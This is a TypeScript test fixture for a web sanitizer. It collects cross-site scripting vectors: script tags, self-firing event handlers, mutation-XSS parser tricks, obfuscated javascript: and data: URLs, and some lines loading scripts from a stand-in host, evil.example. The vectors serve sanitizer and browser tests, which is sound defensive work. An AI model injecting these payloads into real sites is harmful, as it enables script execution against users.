import { textProblem } from '@pbgdpl/contract/text-rules';

/**
 * Hostile input as editors might paste it, an import file might carry or a citizen might
 * type: the usual families of script injection (raw scripts, event handlers, script URLs in
 * every obfuscation, parser confusion / mutation XSS, CSS and embedding) put together here.
 * Hand-written vectors call `alert(1)` (a test sees the dialog); generated ones set
 * `top.__xss` (a test reads the flag). Used by the server's sanitizer tests and by the
 * browser tests that render what the API stores.
 */

const HANDWRITTEN = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script/xss src="//evil.example/x.js"></script>',
  '<img src=x onerror=alert(1)>',
  '<p onclick="alert(1)">bấm</p>',
  '<p ONMOUSEOVER=alert(1)>di chuột</p>',
  '<body onload=alert(1)>',
  '<span onpointerenter="alert(1)">x</span>',
  '<details open ontoggle=alert(1)>',
  '<a href="javascript:alert(1)">liên kết</a>',
  '<a href="//evil.example/">liên kết</a>',
  '<svg onload=alert(1)><circle r=1 /></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<style>body{background:url(javascript:alert(1))}</style>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<link rel=stylesheet href="//evil.example/x.css">',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="javascript:alert(1)//">',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<noembed><img src=x onerror=alert(1)></noembed>',
  '<textarea></textarea><script>alert(1)</script>',
  '<xmp><script>alert(1)</script></xmp>',
  '<title><img src=x onerror=alert(1)></title>',
  '<!--<img src=x onerror=alert(1)>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<img src="x` `<script>alert(1)</script>"` `>',
  '<a title="&quot;><script>alert(1)</script>">x</a>',
  '<p title="a" onclick="alert(1)" title="b">x</p>',
  '<div><style><img src=x onerror=alert(1)//</style></div>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<table><td><form><input name=x></form></td></table><img src=x onerror=alert(1)>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<svg><foreignObject><p><style><img src=x onerror=alert(1)></style></p></foreignObject></svg>',
  '<select><template><img src=x onerror=alert(1)></template></select>',
  '"><img src=x onerror=alert(1)>',
  "'><svg onload=alert(1)>",
  '</title></textarea></style></script><img src=x onerror=alert(1)>',
  '${alert(1)}{{constructor.constructor("alert(1)")()}}',
  'javascript:alert(1)',
  '<a href="#" onclick="alert(1)">#</a>',
  '<img srcset="x 1x, javascript:alert(1) 2x">',
  '<video><source onerror="alert(1)"></video>',
  '<isindex action="javascript:alert(1)" type=image>',
  '<button form=x formaction="javascript:alert(1)">gửi</button>',
  '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
  '<embed src="javascript:alert(1)">',
];

/** Event handlers in the element each one fires on by itself (no click needed). */
const SELF_FIRING: Array<[string, string]> = [
  ['img src=x', 'onerror'],
  ['image src=x', 'onerror'],
  ['svg', 'onload'],
  ['body', 'onpageshow'],
  ['iframe', 'onload'],
  ['video src=x', 'onerror'],
  ['audio src=x', 'onerror'],
  ['input autofocus', 'onfocus'],
  ['select autofocus', 'onfocus'],
  ['textarea autofocus', 'onfocus'],
  ['details open', 'ontoggle'],
  ['marquee', 'onstart'],
  ['object data=x', 'onerror'],
  ['style', 'onload'],
  ['link rel=stylesheet href=x', 'onerror'],
  ['div tabindex=0 autofocus', 'onfocus'],
  ['a id=x tabindex=1 autofocus', 'onfocusin'],
  ['svg><animate attributeName=x dur=1s', 'onbegin'],
  ['svg><set attributeName=x to=1', 'onbegin'],
  ['p style="animation-name:spin"', 'onanimationstart'],
  ['div contenteditable autofocus', 'onfocus'],
  ['track src=x', 'onerror'],
  ['body', 'onresize'],
  ['form><button autofocus', 'onfocus'],
];

/** Ways to spell a script URL that naive filters miss. */
const SCRIPT_URLS = [
  'javascript:top.__xss=1',
  'JaVaScRiPt:top.__xss=1',
  ' javascript:top.__xss=1',
  'jav&#x09;ascript:top.__xss=1',
  'java&#x0A;script:top.__xss=1',
  '&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;top.__xss=1',
  '&#x6A;avascript&colon;top.__xss=1',
  'javascript&#58;top.__xss=1',
  '\u0001javascript:top.__xss=1',
  'data:text/html;base64,PHNjcmlwdD50b3AuX194c3M9MTwvc2NyaXB0Pg==',
  'DATA:text/html,<script>top.__xss=1</script>',
  'vbscript:top.__xss=1',
  'javascript://%0Atop.__xss=1',
];

/** Where a script URL can sit. */
const URL_PLACES: Array<(url: string) => string> = [
  (url) => `<a href="${url}">liên kết</a>`,
  (url) => `<iframe src="${url}"></iframe>`,
  (url) => `<form action="${url}"><button>gửi</button></form>`,
  (url) => `<svg><a xlink:href="${url}"><text x=1 y=10>x</text></a></svg>`,
];

export const XSS_VECTORS: readonly string[] = [
  ...HANDWRITTEN,
  ...SELF_FIRING.map(([tag, handler]) => `<${tag} ${handler}="top.__xss=1">`),
  ...SCRIPT_URLS.flatMap((url) => URL_PLACES.map((place) => place(url))),
];

/**
 * What the API can store: its text rule refuses control characters at the door (400), so the
 * vectors that hide a `\u0001` before `javascript:` never reach a database; widgets still meet
 * them in tests that feed raw API answers.
 */
export const STORABLE_XSS_VECTORS = XSS_VECTORS.filter((vector) => textProblem(vector, 'line') === null);
export const REFUSED_XSS_VECTORS = XSS_VECTORS.filter((vector) => textProblem(vector, 'line') !== null);
